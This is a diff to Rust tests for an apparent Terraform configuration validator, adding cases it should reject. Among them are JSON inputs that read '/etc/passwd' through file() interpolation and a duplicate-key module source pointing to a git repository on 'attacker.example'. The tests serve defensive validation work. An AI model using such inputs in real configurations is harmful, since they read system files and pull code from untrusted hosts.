@@ -154,6 +154,7 @@ check "alive" {
     let folder = [
         ("main.tf", root),
         ("x.auto.tfvars", "name = \"a\"\n"),
+        ("b_override.tf", "module \"vpc\" {\n  policy = \"\"\n}\n"),
         ("note.tftpl", "hello ${upper(name)}\n"),
         ("modules/vpc/main.tf", module),
         // Nothing names this folder, so nobody reads it.
@@ -225,6 +226,7 @@ fn json_is_held_to_the_same_rules() {
         (r#"{"locals": {"a": "${file(\"/etc/passwd\")}"}}"#, "function-path"),
         (r#"{"locals": {"a": {"${file(\"/etc/passwd\")}": 1}}}"#, "function-path"),
         (r#"{"locals": {"a": "${"}}"#, "syntax"),
+        (r#"{"module": {"m": {"source": "./m", "source": "git::https://attacker.example/m.git"}}}"#, "module-source"),
         (r#"{"check": {"x": {"data": {"http": {"y": {}}}}}}"#, "outside-data"),
         (r#"{"terraform": {"cloud": {}}}"#, "cloud"),
         (r#"{"action": {"a": {"b": {}}}}"#, "block"),
